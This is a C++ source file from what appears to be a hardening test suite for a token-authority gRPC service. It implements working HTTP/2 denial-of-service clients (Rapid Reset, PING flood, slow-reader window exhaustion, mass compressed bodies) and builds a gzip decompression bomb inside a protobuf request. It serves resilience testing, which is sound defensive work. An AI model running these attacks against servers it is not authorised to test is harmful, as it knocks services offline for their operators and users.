#include "tests/hardening/h2_attacks.h"

#include <zlib.h>

#include <thread>

namespace token_authority::hardening {
namespace {

using Clock = std::chrono::steady_clock;
using std::chrono::milliseconds;

// Output the client lets pile up before it waits for the socket.
constexpr size_t kMaxUnsent = 1 << 20;

// A connection to `target` (replacing a dead one), counting into `counts`.
class Attacker {
 public:
  Attacker(const Target& target, AttackCounts* counts,
           H2Connection::Options options = {})
      : counts_(counts), options_(std::move(options)) {
    options_.host = target.host;
    options_.port = target.port;
    options_.source_address = target.source_address;
  }
  ~Attacker() { Retire(); }

  // The live connection, reconnecting if needed; nullptr if that failed.
  H2Connection* Get() {
    if (c_ != nullptr && c_->alive() && !c_->goaway_received()) {
      return c_.get();
    }
    Retire();
    auto c = H2Connection::Connect(options_);
    if (!c.ok()) {
      ++counts_->connect_failures;
      counts_->last_error = std::string(c.status().message());
      std::this_thread::sleep_for(milliseconds(10));
      return nullptr;
    }
    ++counts_->connections;
    ++generation_;
    c_ = std::move(*c);
    return c_.get();
  }

  // Changes whenever Get() made a new connection.
  int64_t generation() const { return generation_; }

  void Retire() {
    if (c_ == nullptr) return;
    counts_->Add(*c_);
    c_.reset();
  }

 private:
  AttackCounts* counts_;
  H2Connection::Options options_;
  std::unique_ptr<H2Connection> c_;
  int64_t generation_ = 0;
};

// Waits for the socket when too much output is pending; true if the caller
// may queue more.
bool MaySend(H2Connection* c, milliseconds wait) {
  if (c->unsent_bytes() < kMaxUnsent) return true;
  c->Flush(wait);
  return c->unsent_bytes() < kMaxUnsent;
}

}  // namespace

void AttackCounts::Add(const H2Connection& c) {
  streams += c.streams_sent();
  frames += c.frames_sent();
  if (c.goaway_received()) ++goaways;
  for (const auto& [status, n] : c.statuses()) statuses[status] += n;
}

AttackCounts RapidReset(const Target& target, const Request& request, int batch,
                        Deadline until) {
  AttackCounts counts;
  Attacker attacker(target, &counts);
  const int32_t need =
      static_cast<int32_t>(batch * request.body->size() + 1024);
  std::vector<int32_t> ids;
  while (Clock::now() < until) {
    H2Connection* c = attacker.Get();
    if (c == nullptr) continue;
    // Room in the connection's flow-control window for the batch's DATA.
    while (c->alive() && c->remote_window() < need && Clock::now() < until) {
      c->Receive(milliseconds(5));
    }
    if (!MaySend(c, milliseconds(50))) {
      c->Receive(milliseconds(0));
      continue;
    }
    ids.clear();
    for (int i = 0; i < batch; ++i) {
      const int32_t id = c->SubmitRequest(request.headers, request.body);
      if (id < 0) break;
      ids.push_back(id);
    }
    c->Serialize();  // HEADERS + DATA first, or the resets would cancel them
    for (int32_t id : ids) c->SubmitReset(id);
    c->Serialize();
    c->Flush(milliseconds(100));
    c->Receive(milliseconds(0));
  }
  return counts;
}

AttackCounts CompressedBodies(const Target& target, const Request& request,
                              int in_flight, Deadline until) {
  AttackCounts counts;
  Attacker attacker(target, &counts);
  while (Clock::now() < until) {
    H2Connection* c = attacker.Get();
    if (c == nullptr) continue;
    while (c->open_streams() < in_flight) {
      if (c->SubmitRequest(request.headers, request.body) < 0) break;
    }
    c->Serialize();
    c->Flush(milliseconds(50));
    c->Receive(milliseconds(10));
  }
  return counts;
}

AttackCounts PingFlood(const Target& target, int connections, bool read,
                       Deadline until) {
  AttackCounts counts;
  H2Connection::Options options;
  // A client that never reads does not wait for the server's SETTINGS.
  if (!read) options.settings_wait = milliseconds(0);
  std::vector<std::unique_ptr<Attacker>> attackers;
  for (int i = 0; i < connections; ++i) {
    attackers.push_back(std::make_unique<Attacker>(target, &counts, options));
  }
  while (Clock::now() < until) {
    bool sent = false;
    for (auto& attacker : attackers) {
      H2Connection* c = attacker->Get();
      if (c == nullptr) continue;
      if (c->unsent_bytes() < kMaxUnsent) {
        for (int i = 0; i < 100; ++i) c->SubmitPing();
        c->Serialize();
        sent = true;
      }
      c->Flush(milliseconds(0));
      if (read) c->Receive(milliseconds(0));
    }
    if (!sent) std::this_thread::sleep_for(milliseconds(1));
  }
  return counts;
}

AttackCounts SlowReader(const Target& target, const Request& request,
                        int connections, int calls, uint32_t window,
                        Deadline until) {
  AttackCounts counts;
  H2Connection::Options options;
  options.initial_window_size = window;
  std::vector<std::unique_ptr<Attacker>> attackers;
  std::vector<int64_t> loaded(connections, 0);  // generation with its calls
  for (int i = 0; i < connections; ++i) {
    attackers.push_back(std::make_unique<Attacker>(target, &counts, options));
  }
  while (Clock::now() < until) {
    for (int i = 0; i < connections; ++i) {
      H2Connection* c = attackers[i]->Get();
      if (c == nullptr) continue;
      if (loaded[i] != attackers[i]->generation()) {
        // A new connection: its calls, then no reading.
        for (int k = 0; k < calls; ++k) {
          if (c->SubmitRequest(request.headers, request.body) < 0) break;
        }
        c->Serialize();
        loaded[i] = attackers[i]->generation();
      }
      c->Flush(milliseconds(0));
    }
    std::this_thread::sleep_for(milliseconds(20));
  }
  return counts;
}

std::string GzipBombVerifyRequest(const std::string& organization_id,
                                  size_t inflated_bytes) {
  // Protobuf: field 1 (jwt) length-delimited, then field 2 (organization_id).
  auto varint = [](uint64_t v) {
    std::string out;
    while (v >= 0x80) {
      out.push_back(static_cast<char>((v & 0x7f) | 0x80));
      v >>= 7;
    }
    out.push_back(static_cast<char>(v));
    return out;
  };
  const std::string head = "\x0a" + varint(inflated_bytes);
  const std::string tail =
      "\x12" + varint(organization_id.size()) + organization_id;

  z_stream z{};
  // windowBits 15 + 16: a gzip wrapper, as grpc-encoding "gzip" requires.
  deflateInit2(&z, 9, Z_DEFLATED, 15 + 16, 9, Z_DEFAULT_STRATEGY);
  std::string out;
  std::string chunk(1 << 20, 'e');
  char buf[1 << 16];
  auto feed = [&](const std::string& in, size_t n, int flush) {
    z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
    z.avail_in = static_cast<uInt>(n);
    do {
      z.next_out = reinterpret_cast<Bytef*>(buf);
      z.avail_out = sizeof(buf);
      deflate(&z, flush);
      out.append(buf, sizeof(buf) - z.avail_out);
    } while (z.avail_out == 0);
  };
  feed(head, head.size(), Z_NO_FLUSH);
  for (size_t left = inflated_bytes; left > 0;) {
    const size_t n = std::min(left, chunk.size());
    feed(chunk, n, Z_NO_FLUSH);
    left -= n;
  }
  feed(tail, tail.size(), Z_FINISH);
  deflateEnd(&z);
  return out;
}

}  // namespace token_authority::hardening
